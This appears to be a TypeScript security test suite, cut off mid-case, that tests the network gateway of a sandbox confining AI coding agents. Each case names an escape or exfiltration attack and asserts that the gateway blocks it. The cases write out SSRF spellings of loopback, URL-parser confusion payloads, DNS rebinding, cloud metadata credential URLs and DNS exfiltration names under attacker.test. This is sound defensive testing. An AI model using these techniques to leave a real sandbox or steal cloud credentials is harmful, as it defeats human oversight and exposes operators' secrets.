import assert from 'node:assert/strict';
import type { ControlReply, ControlRequest } from '../../../src/core/egress/gatewayControl.js';
import { defineCases } from '../securityCase.js';

/** What a box run returns: its exit code and output. */
export interface BoxResult {
  exitCode: number;
  stdout: string;
  stderr: string;
}

/** An audit record of the task as read back from its log. */
export type NetworkRecord = Record<string, unknown> & { type: string };

/** One task under attack, driven from inside (as the sandbox user, with a task's proxy variables). */
export interface BoxUnderTest {
  id: string;
  sh(script: string): Promise<BoxResult>;
  /** `node -e program args…` in the box. */
  node(program: string, ...args: string[]): Promise<BoxResult>;
  records(): NetworkRecord[];
  /** The records once `ready` holds (a connection's record is written when it ends, a moment after the box has its answer). */
  recordsWhen(ready: (records: NetworkRecord[]) => boolean): Promise<NetworkRecord[]>;
  /** A request to the task's gateway over its control socket, from the host. */
  gateway(request: ControlRequest): Promise<ControlReply>;
  openConnections(): number;
  /** The relay's pid inside the task. */
  relayPid(): number;
  /** Host paths the box must have no way to: the task's state folder and the gateway's control socket in it. */
  stateDir: string;
  controlSocket: string;
}

/** A server on host loopback standing in for a destination. */
export interface LoopbackOrigin {
  host: string;
  port: number;
  connections(): number;
  /** HTTP origins: `METHOD url host=Host` per request answered; the open proxy: each `host:port` it relayed to. */
  requests: string[];
  /** TCP origins: bytes received on each connection, in accept order. */
  bytesPerConnection: number[];
}

export interface NetworkContext {
  /** The task most cases attack: names only, 127.0.0.2 admitted by CIDR, a setup phase before it. */
  main: BoxUnderTest;
  /** A task with a small byte budget, for floods that use it up. */
  limited: BoxUnderTest;
  /** Plain HTTP on 127.0.0.2, reached through api.example.test and the other allowed names. */
  allowed: LoopbackOrigin;
  /** Plain HTTP on the host's 127.0.0.1: on no rule under any spelling; no case may ever reach it. */
  denied: LoopbackOrigin;
  /** Plain HTTP on 127.0.0.1 that only the open proxy (an allowed host) reaches. */
  beyond: LoopbackOrigin;
  /** HTTPS for api.example.test on 127.0.0.2, behind a front that counts the bytes of each connection. */
  tls: LoopbackOrigin;
  /** TCP on 127.0.0.2 that swallows what it is sent (sink.example.test, on the limited task). */
  sink: LoopbackOrigin;
  /** proxy.example.test: an allowed host that is itself an open forward proxy. */
  proxy: LoopbackOrigin;
  /** Every name the gateways' resolver was asked about, in order. */
  asked: string[];
  /** Every address the gateways dialled (a dial off loopback is refused by the test as well). */
  dials: Array<{ address: string; port: number }>;
  limits: { maxConnections: number; idleTimeoutSeconds: number; limitedMaxBytes: number };
}

/** A rule-allowed name whose answers alternate between 127.0.0.2 and 127.0.0.1. */
export const FLIPPING_NAME = 'flip.rebind.example.test';

const PROXY_PORT = 3128;

// ---------------------------------------------------------------------------------------------
// Programs run inside the box. Node, because the box's node is the one client that lets a case
// say exactly which bytes go on the wire; each prints one JSON value.
// ---------------------------------------------------------------------------------------------

/** Raw exchanges with the proxy, one after another: send bytes, wait for text, then (up to 3 s) for the close. */
const EXCHANGES = String.raw`
const net = require('net');
const one = (spec) => new Promise((resolve) => {
  const socket = net.connect(spec.port, '127.0.0.1');
  let received = Buffer.alloc(0), closed = false, error;
  const waiters = [];
  const poke = () => { for (const waiter of waiters.splice(0)) waiter(); };
  socket.on('data', (chunk) => { received = Buffer.concat([received, chunk]); poke(); });
  socket.on('error', (e) => { error = e.code || e.message; });
  socket.on('close', () => { closed = true; poke(); });
  const until = (ready, ms) => new Promise((done) => {
    const timer = setTimeout(done, ms);
    const check = () => { if (ready()) { clearTimeout(timer); done(); } else waiters.push(check); };
    check();
  });
  (async () => {
    await new Promise((ready) => { socket.once('connect', ready); socket.once('error', ready); });
    for (const step of spec.steps) {
      if (closed) break;
      if (step.send !== undefined) socket.write(Buffer.from(step.send, 'latin1'));
      if (step.until !== undefined) await until(() => closed || received.includes(step.until, 0, 'latin1'), 8000);
    }
    await until(() => closed, spec.closeMs);
    socket.destroy();
    resolve({ received: received.toString('latin1'), closed, error });
  })();
});
(async () => {
  const results = [];
  for (const spec of JSON.parse(process.argv[1])) results.push(await one(spec));
  process.stdout.write(JSON.stringify(results));
})();
`;

/** connect() attempts that ignore the proxy: TCP to loopback ports, UDP connect (which sends nothing). */
const DIRECT = String.raw`
const net = require('net'), dgram = require('dgram');
const tcp = (host, port) => new Promise((resolve) => {
  const socket = net.connect({ host, port });
  const timer = setTimeout(() => { socket.destroy(); resolve('timeout'); }, 5000);
  socket.on('error', (e) => { clearTimeout(timer); resolve(e.code); });
  socket.on('connect', () => { clearTimeout(timer); socket.destroy(); resolve('connected'); });
});
const udp = (host, port) => new Promise((resolve) => {
  const socket = dgram.createSocket(host.includes(':') ? 'udp6' : 'udp4');
  socket.on('error', (e) => { resolve(e.code); socket.close(); });
  try { socket.connect(port, host, (e) => { resolve(e ? e.code : 'connected'); socket.close(); }); } catch (e) { resolve(e.code); }
});
(async () => {
  const out = {};
  for (const [kind, host, port] of JSON.parse(process.argv[1])) out[kind + ' ' + host + ' ' + port] = await (kind === 'tcp' ? tcp : udp)(host, port);
  process.stdout.write(JSON.stringify(out));
})();
`;

/** DNS questions to loopback servers only, over UDP and TCP; the box's resolv.conf is never used. */
const DNS_PROBE = String.raw`
const dns = require('dns'), net = require('net');
const udp = (server) => new Promise((resolve) => {
  const resolver = new dns.Resolver({ timeout: 1500, tries: 1 });
  resolver.setServers([server]);
  resolver.resolve4('api.example.test', (e, answer) => resolve(e ? e.code : 'answered ' + answer.join(',')));
});
const tcp = (host) => new Promise((resolve) => {
  const socket = net.connect({ host, port: 53 });
  socket.on('error', (e) => resolve(e.code));
  socket.on('connect', () => { socket.destroy(); resolve('connected'); });
});
(async () => {
  const out = {};
  for (const server of JSON.parse(process.argv[1])) out[server] = { udp: await udp(server), tcp: await tcp(server) };
  process.stdout.write(JSON.stringify(out));
})();
`;

/** CONNECT through the proxy, then a TLS handshake inside the tunnel with the given server name (after `prefix`, when given). */
const TLS_PROBE = String.raw`
const net = require('net'), tls = require('tls');
const one = ({ target, servername, prefix }) => new Promise((resolve) => {
  const socket = net.connect(3128, '127.0.0.1');
  let head = '', body = '', established = false, finished = false;
  const done = (result) => { if (finished) return; finished = true; clearTimeout(timer); socket.destroy(); resolve({ established, ...result }); };
  const timer = setTimeout(() => done({ error: 'timeout', body }), 10000);
  socket.on('error', (e) => done({ error: e.code }));
  socket.once('connect', () => socket.write('CONNECT ' + target + ' HTTP/1.1\r\nHost: ' + target + '\r\n\r\n'));
  const onHead = (chunk) => {
    head += chunk.toString('latin1');
    if (!head.includes('\r\n\r\n')) return;
    socket.off('data', onHead);
    if (!head.startsWith('HTTP/1.1 200')) return done({ head });
    established = true;
    if (prefix) socket.write(prefix);
    const secure = tls.connect({ socket, servername, rejectUnauthorized: false });
    secure.on('secureConnect', () => secure.write('GET /hello/tls HTTP/1.1\r\nHost: ' + servername + '\r\nConnection: close\r\n\r\n'));
    secure.on('data', (data) => { body += data; });
    secure.on('error', (e) => done({ error: e.code || e.message, body }));
    secure.on('close', () => done({ body }));
  };
  socket.on('data', onHead);
});
(async () => {
  const results = [];
  for (const attempt of JSON.parse(process.argv[1])) results.push(await one(attempt));
  process.stdout.write(JSON.stringify(results));
})();
`;

/** Opens many proxy connections at once, each sending the same request; reports each one's status line. */
const FLOOD = String.raw`
const net = require('net');
const { count, request } = JSON.parse(process.argv[1]);
const sockets = [], statuses = new Array(count).fill('none');
let settled = 0;
const settle = (index, status) => { if (statuses[index] !== 'none') return; statuses[index] = status; if (++settled === count) finish(); };
const finish = () => { for (const socket of sockets) socket.destroy(); process.stdout.write(JSON.stringify(statuses)); process.exit(0); };
setTimeout(finish, 20000);
for (let index = 0; index < count; index++) {
  const socket = net.connect(3128, '127.0.0.1');
  sockets.push(socket);
  let text = '';
  socket.on('connect', () => socket.write(request));
  socket.on('data', (chunk) => { text += chunk.toString('latin1'); const line = /^HTTP\/1\.1 (\d{3})/.exec(text); if (line) settle(index, line[1]); });
  socket.on('error', (e) => settle(index, e.code));
  socket.on('close', () => settle(index, 'closed'));
}
`;

/** A relay of the box's own (#87381): a loopback port that forwards every connection to the proxy, then curl through it. */
const IN_BOX_RELAY = String.raw`
const net = require('net'), { execFile } = require('child_process');
const server = net.createServer((client) => {
  const upstream = net.connect(3128, '127.0.0.1');
  client.pipe(upstream).pipe(client);
  upstream.on('error', () => client.destroy());
  client.on('error', () => upstream.destroy());
});
server.listen(0, '127.0.0.1', async () => {
  const via = 'http://127.0.0.1:' + server.address().port;
  const out = {};
  for (const [name, args] of JSON.parse(process.argv[1])) {
    out[name] = await new Promise((resolve) => execFile('curl', ['-sS', '--noproxy', '', '-o', '/dev/null', '-w', '%{http_code} %{http_connect}', '-x', via, ...args], (error, stdout) => resolve(stdout.trim())));
  }
  process.stdout.write(JSON.stringify(out));
  process.exit(0);
});
`;

// ---------------------------------------------------------------------------------------------
// Helpers the cases share.
// ---------------------------------------------------------------------------------------------

interface Step {
  send: string;
  /** Wait (up to 8 s) until the received bytes contain this text, or the connection closes. */
  until?: string;
}
interface Exchange {
  received: string;
  closed: boolean;
  error?: string;
}

async function exchanges(box: BoxUnderTest, specs: Array<{ steps: Step[] }>): Promise<Exchange[]> {
  const result = await box.node(EXCHANGES, JSON.stringify(specs.map((spec) => ({ port: PROXY_PORT, closeMs: 3000, ...spec }))));
  assert.equal(result.exitCode, 0, result.stderr);
  return JSON.parse(result.stdout) as Exchange[];
}

/** One request each, on its own proxy connection; the answers in order. */
const requests = (box: BoxUnderTest, texts: string[]) => exchanges(box, texts.map((send) => ({ steps: [{ send }] })));

async function nodeJson<T>(box: BoxUnderTest, program: string, input: unknown): Promise<T> {
  const result = await box.node(program, JSON.stringify(input));
  assert.equal(result.exitCode, 0, result.stderr);
  return JSON.parse(result.stdout) as T;
}

const statusOf = (exchange: Exchange) => /^HTTP\/1\.[01] (\d{3}) /.exec(exchange.received)?.[1];
const get = (url: string, host: string) => `GET ${url} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
const connect = (authority: string) => `CONNECT ${authority} HTTP/1.1\r\nHost: ${authority}\r\n\r\n`;
const attempts = (records: NetworkRecord[]) => records.filter((record) => record.type === 'network');
const ESTABLISHED = 'HTTP/1.1 200 Connection Established\r\n\r\n';

/**
 * What has happened since a case began: dials, lookups, visits to the origins, new records. It
 * begins once both gateways have no connection open, so every earlier connection's record is
 * written and none of them lands in this case's window.
 */
async function since(context: NetworkContext) {
  const quiet = await waitUntil(() => context.main.openConnections() === 0 && context.limited.openConnections() === 0, 15_000);
  assert.ok(quiet, `connections from earlier cases are still open: ${context.main.openConnections()} + ${context.limited.openConnections()}`);
  const start = {
    dials: context.dials.length,
    asked: context.asked.length,
    denied: context.denied.connections(),
    allowed: context.allowed.connections(),
    beyond: context.beyond.connections(),
    main: context.main.records().length,
    limited: context.limited.records().length,
    allowedRequests: context.allowed.requests.length,
  };
  const first = (box: BoxUnderTest) => (box === context.main ? start.main : start.limited);
  return {
    dials: () => context.dials.slice(start.dials),
    asked: () => context.asked.slice(start.asked),
    allowedRequests: () => context.allowed.requests.slice(start.allowedRequests),
    records: (box: BoxUnderTest) => box.records().slice(first(box)),
    recordsWhen: async (box: BoxUnderTest, ready: (records: NetworkRecord[]) => boolean) => (await box.recordsWhen((all) => ready(all.slice(first(box))))).slice(first(box)),
    /** The host's own loopback origin (on no rule) saw nothing, and nothing was dialled but the allowed origins' address. */
    assertDeniedUntouched: () => {
      assert.equal(context.denied.connections(), start.denied, 'the origin on the host loopback (on no rule) was reached');
      const bad = context.dials.slice(start.dials).filter((dial) => dial.port === context.denied.port || dial.address !== '127.0.0.2');
      assert.deepEqual(bad, [], 'the gateway dialled a destination no rule admits');
    },
    allowedDelta: () => context.allowed.connections() - start.allowed,
    beyondDelta: () => context.beyond.connections() - start.beyond,
  };
}

/** Every answer has the status, or the message shows the request and the answer. */
function assertStatuses(results: Exchange[], status: string, labels: string[]): void {
  assert.equal(results.length, labels.length);
  results.forEach((result, index) => assert.equal(statusOf(result), status, `${JSON.stringify(labels[index])}: ${JSON.stringify(result.received.slice(0, 300))}`));
}

const loopbackCidr = /^127\./;

// ---------------------------------------------------------------------------------------------
// The cases.
// ---------------------------------------------------------------------------------------------

export const NETWORK_CASES = defineCases<NetworkContext>([
  {
    id: 'network.direct-host-loopback',
    category: 'network',
    title: "a direct connection that ignores the proxy reaches only the box's own loopback, never the host's",
    attack: "Reach the host's loopback services (a database, a dev server, the engine's API on a TCP port) by connecting to 127.0.0.1 directly, as `curl --noproxy '*'` does.",
    source: 'https://github.com/anthropics/claude-code/issues/33249',
    async run(context) {
      const { denied, allowed } = context;
      const seen = await since(context);
      const curl = await context.main.sh(`curl -sS --noproxy '*' --max-time 5 -o /dev/null http://127.0.0.1:${denied.port}/hello/x; echo "curl=$?"; curl -sS --noproxy '*' --max-time 5 -o /dev/null http://127.0.0.2:${allowed.port}/hello/x; echo "curl=$?"; (exec 3<>/dev/tcp/127.0.0.1/${denied.port}) 2>&1; echo "tcp=$?"`);
      assert.match(curl.stdout, /curl=7\n.*curl=7\n/s, curl.stdout + curl.stderr);
      assert.match(curl.stdout, /Connection refused\ntcp=1\n/, curl.stdout);
      const direct = await nodeJson<Record<string, string>>(context.main, DIRECT, [['tcp', '127.0.0.1', denied.port], ['tcp', '127.0.0.2', allowed.port]]);
      assert.deepEqual(Object.values(direct), ['ECONNREFUSED', 'ECONNREFUSED'], JSON.stringify(direct));
      // The only thing listening in the box is the relay, on 127.0.0.1:3128 (0C38).
      const listening = await context.main.sh(`awk 'FNR > 1 && $4 == "0A" { print $2 }' /proc/net/tcp /proc/net/tcp6; echo udp; awk 'FNR > 1 { print $2 }' /proc/net/udp /proc/net/udp6`);
      assert.equal(listening.stdout, '0100007F:0C38\nudp\n');
      seen.assertDeniedUntouched();
      assert.equal(seen.allowedDelta(), 0, 'the allowed origin was reached without the gateway');
      assert.deepEqual(seen.dials(), [], 'nothing went through the gateway');
      assert.deepEqual(attempts(seen.records(context.main)), [], 'the relay never saw these connections');
    },
  },
  {
    id: 'network.no-route',
    category: 'network',
    title: 'the box has only lo and no route: connect() to any address off loopback fails with ENETUNREACH',
    attack: 'Send data out over a TCP or UDP protocol the proxy does not speak (SSH, DNS, QUIC, plain TCP to an IP) by ignoring the proxy variables.',
    async run(context) {
      const tables = await context.main.sh(`tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '; echo routes=$(tail -n +2 /proc/net/route | wc -l); echo v6=$(awk '{ print $10 }' /proc/net/ipv6_route | sort -u)`);
      assert.equal(tables.stdout, 'lo\nroutes=0\nv6=lo\n');
      // UDP connect() only looks the route up and sends nothing, even where a route exists: the
      // kernel's answer for an address off loopback without a single packet leaving. The addresses
      // are documentation ranges (RFC 5737), never routed anywhere.
      const direct = await nodeJson<Record<string, string>>(context.main, DIRECT, [['udp', '192.0.2.1', 53], ['udp', '198.51.100.7', 443], ['udp', '203.0.113.9', 123]]);
      assert.deepEqual(Object.values(direct), ['ENETUNREACH', 'ENETUNREACH', 'ENETUNREACH'], JSON.stringify(direct));
    },
  },
  {
    id: 'network.raw-sockets',
    category: 'network',
    title: 'raw and packet sockets are refused (no CAP_NET_RAW), and the box cannot make a network namespace of its own',
    attack: 'Forge packets or sniff the interface with a raw or AF_PACKET socket, or unshare a network namespace to gain CAP_NET_ADMIN and set up a route.',
    async run(context) {
      const perl = `for my $try (["raw-icmp", PF_INET, SOCK_RAW, 1], ["raw-tcp", PF_INET, SOCK_RAW, 6], ["raw-icmpv6", PF_INET6, SOCK_RAW, 58], ["packet", 17, SOCK_RAW, 768], ["packet-dgram", 17, SOCK_DGRAM, 768]) { my ($name, @args) = @$try; print "$name: ", (socket(my $s, $args[0], $args[1], $args[2]) ? "opened" : $!), "\\n" }`;
      const result = await context.main.sh(`perl -MSocket -e '${perl}'; grep -E '^Cap(Eff|Bnd|Amb)' /proc/self/status; unshare -rn true 2>&1; echo "unshare=$?"; unshare -n true 2>&1; echo "unshare=$?"`);
      for (const name of ['raw-icmp', 'raw-tcp', 'raw-icmpv6', 'packet', 'packet-dgram']) assert.match(result.stdout, new RegExp(`^${name}: Operation not permitted$`, 'm'), result.stdout);
      assert.match(result.stdout, /^CapEff:\t0000000000000000\nCapBnd:\t0000000000000000\nCapAmb:\t0000000000000000$/m);
      assert.match(result.stdout, /Operation not permitted\nunshare=1\n.*Operation not permitted\nunshare=1\n/s, result.stdout);
    },
  },
  {
    id: 'network.ipv4-literal-spellings',
    category: 'network',
    title: 'every spelling of 127.0.0.1 through the proxy is refused and logged as 127.0.0.1, with only names allowed',
    attack: "Reach the host's loopback through the gateway with a spelling of 127.0.0.1 (decimal, hex, octal, short, trailing dot) that a rule check reads differently from the dialler.",
    async run(context) {
      const port = context.denied.port;
      const seen = await since(context);
      const spellings = ['127.0.0.1', '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '127.0.0.1.', '0x7f.1', '017700000001', '127.000.000.001', '0X7F.0.0.1'];
      const texts = spellings.flatMap((spelling) => [get(`http://${spelling}:${port}/hello/ip`, `${spelling}:${port}`), connect(`${spelling}:${port}`)]);
      const results = await requests(context.main, texts);
      assertStatuses(results, '403', texts);
      for (const result of results) assert.match(result.received, new RegExp(`127\\.0\\.0\\.1:${port} is not on the agent allowlist`));
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= texts.length);
      const refused = attempts(records).filter((record) => record.host === '127.0.0.1' && record.port === port && record.decision === 'deny');
      assert.equal(refused.length, texts.length, JSON.stringify(attempts(records)));
      assert.ok(refused.every((record) => record.address === undefined));
      seen.assertDeniedUntouched();
      assert.deepEqual(seen.dials(), []);
      assert.deepEqual(seen.asked(), [], 'an IP literal is never looked up');
    },
  },
  {
    id: 'network.ipv6-literal-forms',
    category: 'network',
    title: 'IPv6 forms of loopback (::1, mapped, compatible, SIIT, NAT64, 6to4) through the proxy are refused without a dial',
    attack: "Reach the host's loopback through an IPv6 literal that carries 127.0.0.1 (or is ::1) and slips past an IPv4-only check.",
    async run(context) {
      const port = context.denied.port;
      const seen = await since(context);
      const forms = ['[::1]', '[0000:0000::1]', '[::ffff:127.0.0.1]', '[::ffff:7f00:1]', '[0:0:0:0:0:ffff:127.0.0.1]', '[::127.0.0.1]', '[::ffff:0:127.0.0.1]', '[64:ff9b::7f00:1]', '[64:ff9b:1::7f00:1]', '[2002:7f00:1::]'];
      const texts = forms.flatMap((form) => [connect(`${form}:${port}`), get(`http://${form}:${port}/hello/v6`, `${form}:${port}`)]);
      const results = await requests(context.main, texts);
      assertStatuses(results, '403', texts);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= texts.length);
      assert.equal(attempts(records).filter((record) => record.decision === 'deny' && record.port === port && record.address === undefined).length, texts.length, JSON.stringify(attempts(records)));
      seen.assertDeniedUntouched();
      assert.deepEqual(seen.dials(), []);
    },
  },
  {
    id: 'network.userinfo-and-encoding',
    category: 'network',
    title: 'userinfo, percent-encoding, backslashes and fragments that hide 127.0.0.1 behind an allowed name are refused',
    attack: 'Make the rule check see an allowed name while the dialler sees the host loopback (http://api.example.test@127.0.0.1/ and its encoded cousins), the classic URL-parser confusion.',
    async run(context) {
      const { denied, allowed } = context;
      const d = denied.port;
      const a = allowed.port;
      const seen = await since(context);
      const texts = [
        get(`http://api.example.test@127.0.0.1:${d}/`, `127.0.0.1:${d}`),
        get(`http://api.example.test:${a}@127.0.0.1:${d}/`, `127.0.0.1:${d}`),
        get(`http://api.example.test%40127.0.0.1:${d}/`, `api.example.test%40127.0.0.1:${d}`),
        get(`http://%31%32%37.0.0.1:${d}/`, `%31%32%37.0.0.1:${d}`),
        get(`http://api.example.test\\@127.0.0.1:${d}/`, `127.0.0.1:${d}`),
        get(`http://127.0.0.1:${d}#@api.example.test:${a}/`, `api.example.test:${a}`),
        get(`http://api.example.test:${a}/`, `api.example.test@127.0.0.1:${d}`),
        connect(`api.example.test@127.0.0.1:${d}`),
        connect(`127.0.0.1%2f:${d}`),
      ];
      const results = await requests(context.main, texts);
      assertStatuses(results, '400', texts);
      // curl drops the userinfo itself and asks for the literal, which no rule allows.
      const curl = await context.main.sh(`curl -sS --noproxy '' -o /dev/null -w '%{http_code}' 'http://api.example.test@127.0.0.1:${d}/hello/x'`);
      assert.equal(curl.stdout, '403', curl.stderr);
      seen.assertDeniedUntouched();
      assert.deepEqual(seen.dials(), []);
      assert.equal(seen.allowedDelta(), 0);
    },
  },
  {
    id: 'network.dns-rebinding',
    category: 'network',
    title: 'an allowed name that resolves to loopback, private, link-local, metadata or special space is refused before any dial',
    attack: "Point a name the policy allows (or a wildcard covers) at the host's loopback, its LAN or the metadata service, and have the gateway dial it on the box's behalf.",
    async run(context) {
      const port = context.allowed.port;
      const seen = await since(context);
      const refused: Array<[string, RegExp]> = [
        ['loopback', /127\.0\.0\.1, a loopback address/],
        ['private10', /10\.0\.0\.1, a private \(RFC 1918\) address/],
        ['private172', /172\.16\.0\.1, a private/],
        ['private192', /192\.168\.0\.1, a private/],
        ['linklocal', /169\.254\.1\.1, a link-local address/],
        ['cgnat', /100\.64\.0\.1, a carrier-grade NAT/],
        ['metadata', /169\.254\.169\.254, a cloud metadata address/],
        ['unspecified', /0\.0\.0\.0, an unspecified address/],
        ['multicast', /224\.0\.0\.1, a multicast address/],
        ['v6loopback', /::1, a loopback address/],
        ['ula', /fd00::1, a private \(fc00::\/7\) address/],
        ['mapped', /an IPv6 form of 10\.0\.0\.1/],
        ['nat64', /an IPv6 form of 169\.254\.169\.254 \(a cloud metadata address\)/],
        ['mixed', /10\.0\.0\.1, a private/],
      ];
      const names = refused.map(([label]) => `${label}.rebind.example.test`);
      const texts = names.map((name) => get(`http://${name}:${port}/hello/rebind`, `${name}:${port}`));
      const results = await requests(context.main, [...texts, connect(`metadata.rebind.example.test:${port}`)]);
      assertStatuses(results, '403', [...texts, 'CONNECT metadata']);
      refused.forEach(([label, reason], index) => assert.match(results[index].received, reason, label));
      // Allowed by the same wildcard and admitted by the CIDR rule: the refusals above are the address check's.
      const control = await context.main.sh(`curl -sS http://api.example.test:${port}/hello/control`);
      assert.equal(control.stdout, `hello control via api.example.test:${port}\n`, control.stderr);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= names.length + 2);
      for (const name of names) {
        const record = attempts(records).find((entry) => entry.host === name);
        assert.equal(record?.decision, 'deny', name);
        assert.equal(typeof record?.address, 'string', `${name}: the refused answer is logged`);
      }
      for (const name of names) assert.equal(seen.asked().filter((asked) => asked === name).length, name.startsWith('metadata.') ? 2 : 1, `${name} is looked up once per attempt`);
      assert.deepEqual(seen.dials(), [{ address: '127.0.0.2', port }], 'only the control request was dialled');
      seen.assertDeniedUntouched();

      // A name whose answer changes between lookups: each connection is decided and dialled on its
      // one answer, so an answer that passed the check is the one dialled, and the next is checked anew.
      const flipping = await requests(context.main, [0, 1, 2, 3].map(() => get(`http://${FLIPPING_NAME}:${port}/hello/flip`, `${FLIPPING_NAME}:${port}`)));
      assert.deepEqual(flipping.map(statusOf), ['200', '403', '200', '403']);
      assert.equal(seen.asked().filter((name) => name === FLIPPING_NAME).length, 4);
      assert.deepEqual(seen.dials().slice(1), [{ address: '127.0.0.2', port }, { address: '127.0.0.2', port }]);
      seen.assertDeniedUntouched();
    },
  },
  {
    id: 'network.metadata',
    category: 'network',
    title: 'cloud metadata addresses and names are refused without a connection attempt, even when a host rule names them',
    attack: "Read the cloud instance's credentials from the metadata service (169.254.169.254, fd00:ec2::254, metadata.google.internal) through the gateway, which runs on the host.",
    async run(context) {
      const seen = await since(context);
      // 169.254.169.254 and [fd00:ec2::254] are on the allow list as host rules; only a CIDR rule could admit them.
      const texts = [
        get('http://169.254.169.254/latest/meta-data/iam/security-credentials/', '169.254.169.254'),
        connect('169.254.169.254:80'),
        get('http://[fd00:ec2::254]/latest/meta-data/', '[fd00:ec2::254]'),
        connect('[fd00:ec2::254]:80'),
        get('http://100.100.100.200/latest/meta-data/', '100.100.100.200'),
        connect('168.63.129.16:80'),
        get('http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token', 'metadata.google.internal'),
        connect('metadata.google.internal:80'),
        get('http://instance-data.ec2.internal/latest/meta-data/', 'instance-data.ec2.internal'),
      ];
      const results = await requests(context.main, texts);
      assertStatuses(results, '403', texts);
      for (const index of [0, 1, 2, 3, 6, 7]) assert.match(results[index].received, /a cloud metadata address; only a CIDR rule \(allowCidr\) admits it/, texts[index]);
      assert.match(results[8].received, /instance-data\.ec2\.internal:80 is not on the agent allowlist/);
      assert.deepEqual(seen.dials(), [], 'no metadata address was dialled');
      assert.deepEqual(seen.asked(), ['metadata.google.internal', 'metadata.google.internal'], 'only the allowed name was looked up; the unlisted one never');
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= texts.length);
      assert.equal(attempts(records).filter((record) => record.decision === 'deny').length, texts.length);
    },
  },
  {
    id: 'network.no-proxy-env',
    category: 'network',
    title: "NO_PROXY names only the box's own loopback, and a client that skips the proxy (NO_PROXY=*, node's fetch) has no path",
    attack: 'Use NO_PROXY, or a client that never reads the proxy variables, to open a direct path around the gateway.',
    source: 'https://github.com/openai/codex/issues/20002',
    async run(context) {
      const { allowed, denied } = context;
      const seen = await since(context);
      const env = await context.main.sh('env | grep -i "^no_proxy=" | sort');
      assert.equal(env.stdout, 'NO_PROXY=localhost,127.0.0.1,::1\nno_proxy=localhost,127.0.0.1,::1\n');
      // --resolve keeps curl from asking the box's resolver: the direct path itself is what is tried.
      const bypass = await context.main.sh(`NO_PROXY='*' no_proxy='*' curl -sS --max-time 5 --resolve api.example.test:${allowed.port}:127.0.0.2 http://api.example.test:${allowed.port}/hello/x; echo "curl=$?"; NO_PROXY='*' curl -sS --max-time 5 http://127.0.0.1:${denied.port}/hello/x; echo "curl=$?"`);
      assert.match(bypass.stdout, /curl=7\n.*curl=7\n/s, bypass.stdout + bypass.stderr);
      const fetched = await context.main.node(`Promise.allSettled(${JSON.stringify([`http://127.0.0.2:${allowed.port}/hello/fetch`, `http://127.0.0.1:${denied.port}/hello/fetch`])}.map((url) => fetch(url))).then((all) => console.log(all.map((one) => one.status === 'fulfilled' ? 'reached' : one.reason.cause?.code).join(' ')))`);
      assert.equal(fetched.stdout, 'ECONNREFUSED ECONNREFUSED\n', fetched.stderr);
      seen.assertDeniedUntouched();
      assert.equal(seen.allowedDelta(), 0);
      assert.deepEqual(seen.dials(), []);
      assert.deepEqual(attempts(seen.records(context.main)), []);
    },
  },
  {
    id: 'network.dns-no-resolver',
    category: 'network',
    title: "no DNS server answers the box: not Docker's embedded 127.0.0.11, not any loopback resolver, and no route to resolv.conf's",
    attack: "Leak data in DNS questions or learn internal names through a resolver the box can reach, such as Docker's embedded DNS that forwards outward (CVE-2024-29018).",
    source: 'https://nvd.nist.gov/vuln/detail/CVE-2024-29018',
    async run(context) {
      const resolv = await context.main.sh(`awk '$1 == "nameserver" { print $2 }' /etc/resolv.conf; echo routes=$(tail -n +2 /proc/net/route | wc -l)`);
      const lines = resolv.stdout.trim().split('\n');
      assert.equal(lines.pop(), 'routes=0', 'with no route at all, no nameserver off loopback can be reached');
      // Those off loopback are never asked (the test sends nothing to a real private address).
      const loopbackServers = lines.filter((server) => loopbackCidr.test(server));
      const servers = [...new Set(['127.0.0.11', '127.0.0.53', '127.0.0.1', ...loopbackServers])];
      const answers = await nodeJson<Record<string, { udp: string; tcp: string }>>(context.main, DNS_PROBE, servers);
      for (const server of servers) {
        assert.ok(['ECONNREFUSED', 'ETIMEOUT'].includes(answers[server].udp), `${server} udp: ${answers[server].udp}`);
        assert.equal(answers[server].tcp, 'ECONNREFUSED', `${server} tcp`);
      }
      const v6 = await nodeJson<Record<string, { udp: string; tcp: string }>>(context.main, DNS_PROBE, ['::1']);
      assert.ok(!/answered|connected/.test(JSON.stringify(v6)), JSON.stringify(v6));
      const listeners = await context.main.sh(`awk 'FNR > 1 { print $2 }' /proc/net/udp /proc/net/udp6 | grep -ci ':0035$' || true`);
      assert.equal(listeners.stdout.trim(), '0', 'nothing in the box listens on port 53');
    },
  },
  {
    id: 'network.dns-exfiltration',
    category: 'network',
    title: 'a name the policy denies or does not list is never looked up by the gateway, however it is asked for',
    attack: 'Exfiltrate data in the labels of a DNS question (secret.attacker.test) by asking the proxy for a name it will refuse, if it resolves before it decides.',
    source: 'https://github.com/anthropics/claude-code/issues/36907',
    async run(context) {
      const seen = await since(context);
      const names = ['secret-data.attacker.test', 'c2VjcmV0LXRva2VuLTQy.secret-data.attacker.test', 'exfil-4f2a9c.unlisted.example.org'];
      const texts = names.flatMap((name) => [get(`http://${name}/`, name), connect(`${name}:443`)]);
      const results = await requests(context.main, texts);
      assertStatuses(results, '403', texts);
      assert.match(results[0].received, /is refused: matches deny rule \*\.attacker\.test/);
      assert.match(results[4].received, /is not on the agent allowlist/);
      const curl = await context.main.sh(`curl -sS -o /dev/null -w '%{http_code} %{http_connect}' https://${names[1]}/; curl -sS -o /dev/null -w ' %{http_code}' http://${names[2]}/`);
      assert.equal(curl.stdout, '000 403 403', curl.stderr);
      assert.deepEqual(seen.asked(), [], `the gateway looked up: ${seen.asked().join(', ')}`);
      assert.deepEqual(seen.dials(), []);
      const records = await seen.recordsWhen(context.main, (list) => attempts(list).length >= texts.length + 2);
      for (const record of attempts(records)) assert.deepEqual([record.decision, record.address], ['deny', undefined], JSON.stringify(record));
    },
  },
  {
    id: 'network.ipv6',
    category: 'network',
    title: 'the box has no IPv6 path: no address or route, no direct [::1], and [::1] or a name resolving to it through the proxy is refused',
    attack: 'Get out over IPv6, which a filter that only knows IPv4 lets through.',
    source: 'https://github.com/anthropics/claude-code/issues/24952',
    async run(context) {
      const { denied } = context;
      const seen = await since(context);
